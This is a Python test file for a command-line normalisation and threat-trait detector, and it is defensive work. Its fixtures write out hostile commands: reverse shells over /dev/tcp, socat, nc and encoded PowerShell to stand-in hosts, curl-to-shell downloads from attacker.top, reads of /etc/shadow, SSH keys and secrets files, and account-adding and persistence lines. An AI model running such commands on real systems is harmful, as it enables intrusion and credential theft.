"""Shapes: what a program is told stays, what changes from one use to the next goes; and what a line means to do."""

import base64
import time

import pytest

from longtail.executions.hosted import hosted
from longtail.executions.meanings import TRAITS
from longtail.executions.readable import is_word
from longtail.executions.shapes import CUT, MAX_LENGTH, MAX_TOKENS, coarse, features, shape
from longtail.executions.traits import Trait, traits
from longtail.executions.words import KINDS, kind

SHAPES = r"""
"C:\Windows\system32\cmd.exe" /c echo open 1.2.3.4>So.2
    -> cmd.exe -c echo open <ip> > <file:2>
"C:\Windows\system32\cmd.exe" /c echo get Svn.exe >>So.2
    -> cmd.exe -c echo get <file:exe> >> <file:2>
taskkill.exe  /im 360rp.exe /f
    -> taskkill.exe -im <file:exe> -f
ntsd.exe -c q -pn 360rp.exe
    -> ntsd.exe -c q -pn <file:exe>
ftp.exe -s:So.2
    -> ftp.exe -s:<file:2>
bitsadmin.exe  /transfer n http://1.2.3.4/Svn.exe c:\Users\Public\Svn.exe"
    -> bitsadmin.exe -transfer <name> <url:http:exe> <path:public:exe>
net.exe user bob P@ss1 /add
    -> net.exe user <name> <rand> -add
sqlcmd.exe -S . -Q "EXEC sp_configure 'show advanced options',1; EXEC xp_cmdshell 'dir'"
    -> sqlcmd.exe -s <name> -q <sql:exec:xp_cmdshell>
sqlcmd.exe -S . -Q "CREATE LOGIN bob WITH PASSWORD='x'"
    -> sqlcmd.exe -s <name> -q <sql:create:login>
reg.exe add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v x /t REG_SZ /d "C:\a b\x.exe" /f
    -> reg.exe add <reg:hklm:run> -v x -t reg_sz -d <path:other:exe> -f
powershell.exe -NoP -w hidden -File C:\Scripts\a.ps1 -Days 3
    -> powershell.exe -noprofile -windowstyle hidden -file <path:other:ps1> -days <n>
powershell.exe -e dwBoAG8AYQBtAGkA
    -> powershell.exe -encodedcommand <b64> whoami
rundll32.exe "C:\Program Files\App\a b.dll",Entry
    -> rundll32.exe <path:program-files:dll>,entry
regsvr32.exe /s /n /u /i:http://1.2.3.4/x.sct scrobj.dll
    -> regsvr32.exe -s -n -u -i:<url:http:sct> <file:dll>
C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule
    -> svchost.exe -k netsvcs -p -s schedule
sqlservr.exe -sMSSQLSERVER
    -> sqlservr.exe -s:<name>
cmd.exe /c cmd /c "whoami & dir > a.txt"
    -> cmd.exe -c cmd.exe -c whoami.exe & dir > <file:txt>
cmd.exe /c C:\Temp\Svn.exe -y && del C:\Temp\Svn.exe
    -> cmd.exe -c <path:temp:exe> -y && del <path:temp:exe>
sh -c "cd /tmp && wget -q http://1.2.3.4/x.sh -O - | sh"
    -> sh -c cd <path:unix-temp> && wget -q <url:http:sh> -o - | sh
C:\Program Files\App\app.exe --mode=fast --user CORP\bob --since 2026-11-22
    -> app.exe -mode:fast -user <user> -since <date>
ping.exe -n 1 -w 100 192.168.1.6
    -> ping.exe -n <n> -w <n> <ip>
xcopy.exe \\fs01\share\a.txt D:\data\ /y
    -> xcopy.exe <unc:txt> <path:other-drive> -y
tool.exe "a long remark that somebody wrote about the weather"
    -> tool.exe <text:64>
tool.exe xkqzvbpw{90160000-008C-0000-1000-0000000FF1CE} b6a1458f396 {90160000-008C-0000-1000-0000000FF1CE}
    -> tool.exe <text:64> <hex> <guid>
"""


def _cases(block: str) -> list[tuple[str, str]]:
    lines = block.strip().splitlines()
    return [(line, said.strip().removeprefix("->").strip()) for line, said in zip(lines[::2], lines[1::2], strict=True)]


@pytest.mark.parametrize(("line", "said"), _cases(SHAPES))
def test_the_shape_of_a_line(line: str, said: str) -> None:
    assert shape(line) == said


@pytest.mark.parametrize(("word", "said"), [example for row in KINDS for example in row.examples])
def test_the_kind_of_a_word(word: str, said: str) -> None:
    assert kind(word) == said


SAME = [
    ("cmd.exe /c echo a>x.txt", "CMD.EXE  /C  ECHO a > y.txt"),
    ("cmd.exe /c taskkill /im a.exe", "cmd.exe /c t^askk^ill -IM b.exe"),
    ("ftp.exe -s:So.2", "ftp.exe /S:Xy.2"),
    ("powershell.exe -enc dwBoAG8AYQBtAGkA", "powershell.exe /EncodedC dwBoAG8AYQBtAGkA"),
    ("powershell.exe -nop -c whoami", "powershell.exe \u2013NoProfile \u2014Command whoami"),
    ("net.exe user bob Secret1! /add", "net.exe user eve hunter22x -add"),
    (
        "bitsadmin.exe /transfer n http://1.2.3.4/Svn.exe C:\\Users\\Public\\Svn.exe",
        "bitsadmin.exe -TRANSFER updates http://198.51.100.77/a7.exe c:/users/public/other.exe",
    ),
    ("schtasks.exe /run /tn a", 'schtasks.exe /run /tn "b c"'),
    ("ping.exe 10.0.0.1", "ping.exe 192.168.100.200"),
    ("x.exe -p 2b0 -q 000000a4", "x.exe -p 338 -q 00000084"),
    ("mscorsvw.exe -StartupEvent 2b0 -Pipe ee", "mscorsvw.exe -StartupEvent bad -Pipe 1d9"),
]


@pytest.mark.parametrize(("one", "other"), SAME)
def test_what_changes_between_uses_leaves_the_shape(one: str, other: str) -> None:
    assert shape(one) == shape(other)


DIFFERENT = [
    ("net.exe user bob /add", "net.exe user bob /delete"),
    ("copy.exe C:\\Windows\\a.txt x", "copy.exe C:\\Users\\Public\\a.txt x"),
    ("curl.exe http://a/x.txt", "curl.exe http://a/x.exe"),
    ("cmd.exe /c echo a", "cmd.exe /c echo a > b.txt"),
    ("sc.exe start x", "sc.exe stop x"),
    ("x.exe -mode add", "x.exe -mode fade"),  # no number stands beside it
    ("reg.exe add -v 1", "reg.exe query -v 1"),
    ('sqlcmd.exe -Q "SELECT a FROM b"', "sqlcmd.exe -Q \"EXEC xp_cmdshell 'dir'\""),
    ("powershell.exe -File C:\\Program Files\\a.ps1", "powershell.exe -File C:\\Temp\\a.ps1"),
]


@pytest.mark.parametrize(("one", "other"), DIFFERENT)
def test_what_it_is_told_stays_in_the_shape(one: str, other: str) -> None:
    assert shape(one) != shape(other)


def test_the_name_given_is_the_program() -> None:
    assert shape("anything /x", "svc.exe") == "svc.exe -x"
    assert shape("C:\\Program Files\\App\\app.exe -x", "app.exe") == "app.exe -x"
    assert shape("echo.hello>x.txt", "echo") == "echo hello > <file:txt>"


@pytest.mark.parametrize("nothing", [None, ""])
def test_no_command_line_has_no_shape(nothing: str | None) -> None:
    assert shape(nothing, "svchost.exe") == ""


def test_a_shape_is_bounded_and_says_that_it_was_cut() -> None:
    many, long = shape("x.exe " + "-a " * 500), shape("x.exe " + "-administration:configuration " * 30)
    assert many.split(" ")[-1] == CUT and len(many.split(" ")) == MAX_TOKENS + 1
    assert len(long) <= MAX_LENGTH and long.endswith(CUT)


@pytest.mark.parametrize("word", ["add", "transfer", "netsvcs", "no-log", "administrators", "q", "DcomLaunch"])
def test_real_words_stay(word: str) -> None:
    assert is_word(word) and kind(word) == word.lower()


@pytest.mark.parametrize("word", ["xkqzvbpw", "P@ss1", "qwzrtplkx", "Zq8vT1pX"])
def test_made_up_words_go(word: str) -> None:
    assert kind(word) == "<rand>"


@pytest.mark.parametrize("drawn", ["kvirlaflzvznaxswykdfzradkdwifpzz", "kvirlaflzvznaxswykdfzradkdwifpz8"])
def test_a_long_word_drawn_at_random_is_one_kind_wherever_its_digits_fall(drawn: str) -> None:
    assert kind(f"BECOME-SUCCESS-{drawn}") == "<text:64>"


def test_a_coarse_shape_keeps_options_kinds_and_programs_once() -> None:
    fine = "cmd.exe -c echo open <ip> > <file:2> & powershell.exe -file <path:temp:ps1> -days:<n> <ip>"
    assert coarse(fine) == "cmd.exe -c echo <ip> > <file> & powershell.exe -file <path:temp> -days:<n>"
    assert coarse("net.exe user <name> <rand> -add") == "net.exe <name> <rand> -add"
    assert coarse("ntsd.exe -c q") == "ntsd.exe -c"
    assert coarse("app.exe -mode:fast") == "app.exe -mode"
    assert coarse("") == ""


@pytest.mark.parametrize("line", [line for line, _ in _cases(SHAPES)])
def test_a_coarse_shape_is_its_own_coarse_shape(line: str) -> None:
    assert coarse(coarse(shape(line))) == coarse(shape(line))


def test_features_are_the_sorted_distinct_tokens_after_the_program() -> None:
    assert features("net.exe user <name> -add -add") == ("-add", "<name>", "user")
    assert features("") == ()


@pytest.mark.parametrize(("trait", "line"), [(row.trait, line) for row in TRAITS for line in row.has])
def test_a_line_that_has_the_trait(trait: Trait, line: str) -> None:
    assert trait in traits(line)


@pytest.mark.parametrize(("trait", "line"), [(row.trait, line) for row in TRAITS for line in row.has_not])
def test_a_line_that_only_looks_like_the_trait(trait: Trait, line: str) -> None:
    assert trait not in traits(line)


BLOB = "6ZWm/Z/CjCTq8oD0fTmVxYb2Kc5hWn7RsLp3GdEaUi9JoHtBk1"


@pytest.mark.parametrize("blob", [BLOB, f"/{BLOB}", f"/Q/{BLOB}", f"{BLOB}=="])
def test_long_base64_is_no_path(blob: str) -> None:
    assert kind(blob) == "<b64>"
    line = f"powershell -enc {blob}"
    assert shape(line) == "powershell -encodedcommand <b64>"
    assert [shape(each.command, each.executable.name) for each in hosted(None, line)] == ["-encodedcommand <b64>"]


@pytest.mark.parametrize(
    "path",
    [
        "/var/lib/postgresql/archive/68DC65A5B10BB7053B876C4E",
        "/opt/SQLServer2019/MSSQL15/Data/Backup/Full/Nightly",
        "/Users/Alice/Library/Developer/Xcode15/DerivedData",
    ],
)
def test_a_long_path_is_no_base64(path: str) -> None:
    assert kind(path).startswith("<path:")


def test_every_trait_has_a_row() -> None:
    assert [row.trait for row in TRAITS] == list(Trait)


@pytest.mark.parametrize(
    "line",
    [
        "cmd /c cmd /c taskkill -im x.exe",
        'cmd /c "t^askkill /IM x.exe"',
        "powershell -enc dABhAHMAawBrAGkAbABsACAALwBpAG0AIAB4AC4AZQB4AGUA",
        '"C:\\Windows\\System32\\taskkill.exe" \u2013im x.exe',
        'forfiles /c "cmd /c taskkill /f /im x.exe"',
    ],
)
def test_wrapping_and_spelling_do_not_hide_a_trait(line: str) -> None:
    assert Trait.STOPS_SOMETHING in traits(line)


@pytest.mark.parametrize(
    ("line", "changes"),
    [
        (r'C:\Temp\jp.exe -l 1337 -p C:\Windows\System32\cmd.exe -a "/c net user bob P@ss1 /add" -t *', True),
        (r'C:\Temp\gp.exe -cmd "cmd /c net localgroup administrators bob /add"', True),
        (r"C:\Temp\ps.exe -i -c cmd", False),
        ("nc -e /bin/bash 198.51.100.4 443", False),
    ],
)
def test_a_shell_that_another_program_is_told_to_run_is_read_too(line: str, changes: bool) -> None:
    found = traits(line)
    assert Trait.HANDS_ON_A_SHELL in found
    assert (Trait.CHANGES_ACCOUNTS in found) is changes


@pytest.mark.parametrize(
    "line",
    [
        r"C:\App\agent.exe /c config.xml",
        "taskkill /im cmd.exe /f",
        "useradd -s /bin/bash bob",
        r'forfiles /p D:\bak /c "cmd /c del @path"',
        "docker exec -it db sh",
    ],
)
def test_naming_a_shell_is_not_handing_it_on(line: str) -> None:
    assert Trait.HANDS_ON_A_SHELL not in traits(line)


ENCODED_SHELL = base64.b64encode(
    "$c = New-Object Net.Sockets.TCPClient('198.51.100.7',443)\r\n$s = $c.GetStream()\r\niex $x".encode("utf-16-le")
).decode()


@pytest.mark.parametrize(
    ("trait", "lines", "lawful"),
    [
        (
            Trait.HANDS_ON_A_SHELL,
            (
                "bash -c bash -i >& /dev/tcp/198.51.100.7/443 0>&1",
                "sh -c 'exec 5<>/dev/tcp/db.example.net/443; cat <&5'",
                "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
                "python3 -c 'import socket,os; s=socket.socket(); os.dup2(s.fileno(),0)'",
                "sh -c 'mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc x.org 9 > /tmp/f'",
                "socat exec:'bash -li',pty,stderr tcp:x.org:4444",
                "awk 'BEGIN {s = \"/inet/tcp/0/x.org/4242\"; while (1) {s |& getline c; print c |& s}}'",
                f"cmd /c powershell -nop -enc {ENCODED_SHELL}",
            ),
            (
                "timeout 1 bash -c '</dev/tcp/db/5432'",
                'bash -c "(echo > /dev/tcp/db/5432) > /dev/null 2>&1"',
                "python3 -c 'import socket; print(socket.gethostname())'",
                "mkfifo /run/app/control",
                "powershell -c \"(New-Object Net.Sockets.TcpClient('db1',1433)).Connected\"",
                "socat tcp-listen:80 tcp:app:8080",
            ),
        ),
        (
            Trait.BARE_ADDRESS,
            (f"powershell.exe -EncodedCommand {ENCODED_SHELL}",),
            (f"powershell.exe -Command {ENCODED_SHELL}",),
        ),
        (
            Trait.RUNS_FROM_THE_WEB,
            (
                'powershell -c "iwr attacker.top/l.ps1|iex"', "sh -c 'curl 198.51.100.7/x|sh'",
                "sh -c 'wget -qO- a.b.xyz:81/x | sh'",
            ),
            ("sh -c 'curl localhost/x | sh'", "sh -c 'cat a.top/x | sh'", "curl -o a.com/b https://example.com/b.zip"),
        ),
        (
            Trait.READS_PASSWORDS,
            (
                "appcmd.exe list apppool /text:*", "appcmd list vdir /config", "cat /opt/confluence.cfg.xml",
                "cat /srv/app/.env", "aspnet_regiis.exe -pdf connectionStrings C:\\inetpub",
                "cat /var/lib/jenkins/secrets/master.key",
            ),
            ("appcmd list apppool /text:name", "cat conf/server.xml", "aspnet_regiis -i", "cat .environment"),
        ),
        (
            Trait.TAKES_CREDENTIALS,
            (
                "getent shadow", "tar czf /tmp/k.tgz /home/a/.ssh/id_rsa", "cat /etc/shadow",
                'x.exe "ac i ntds" "ifm" "create full C:\\x" q q',
            ),
            ("getent passwd", "tar czf /tmp/k.tgz /home/a/.sshrc", 'ntdsutil "ac i ntds" "files" "info" q q'),
        ),
        (
            Trait.FETCHES_PROGRAM,
            (
                "curl http://198.51.100.7/pugyqs -o /var/tmp/pugyqs", "wget -O /dev/shm/.x 198.51.100.7:8080/a",
                "powershell iwr http://198.51.100.7/a -OutFile C:\\Windows\\Temp\\a",
            ),
            (
                "curl http://198.51.100.7/status -o /tmp/status.json", "curl https://example.com/a -o /tmp/a",
                "curl http://10.0.0.5/a -o /tmp/a", "ping 198.51.100.7 -o /tmp/a",
            ),
        ),
    ],
)  # fmt: skip
def test_what_means_harm_and_what_only_looks_like_it(
    trait: Trait, lines: tuple[str, ...], lawful: tuple[str, ...]
) -> None:
    assert [line for line in lines if trait not in traits(line)] == []
    assert [line for line in lawful if trait in traits(line)] == []


@pytest.mark.parametrize("nothing", [None, "", " ", "svchost.exe -k netsvcs -p"])
def test_ordinary_lines_have_no_trait(nothing: str | None) -> None:
    assert traits(nothing) == frozenset()


@pytest.mark.parametrize(
    "hostile",
    [
        "x " + '"' * 50_000,
        "x " + "'" * 50_000,
        "x " + "'a " * 20_000,
        "x " + ">" * 30_000,
        "x " + "a" * 100_000,
        "x " + "a." * 15_000,
        "x " + "a:" * 15_000,
        "x " + "a=" * 15_000,
        "x " + "\\" * 30_000,
        "x " + "/" * 30_000,
        "x " + "1." * 15_000,
        "x " + "A1b+" * 8_000,
        'x "' + "a b " * 8_000 + '"',
        'x "' + "exec a " * 4_000 + '"',
        "cmd /c " + "(" * 10_000,
        "cmd /c " * 4_000,
        "powershell -c " + "iex(" * 8_000,
        "echo " + "> " * 10_000,
        "http" * 8_000,
        "x " + ".pdf" * 8_000,
    ],
    ids=lambda text: text[:14],
)
def test_hostile_lines_are_shaped_in_linear_time(hostile: str) -> None:
    assert len(shape(hostile)) <= MAX_LENGTH
    assert any(_seconds(hostile + " " * again) < 0.6 for again in range(1, 4))  # other work may disturb one of them


def _seconds(line: str) -> float:
    began = time.process_time()
    shape(line)
    traits(line)
    return time.process_time() - began
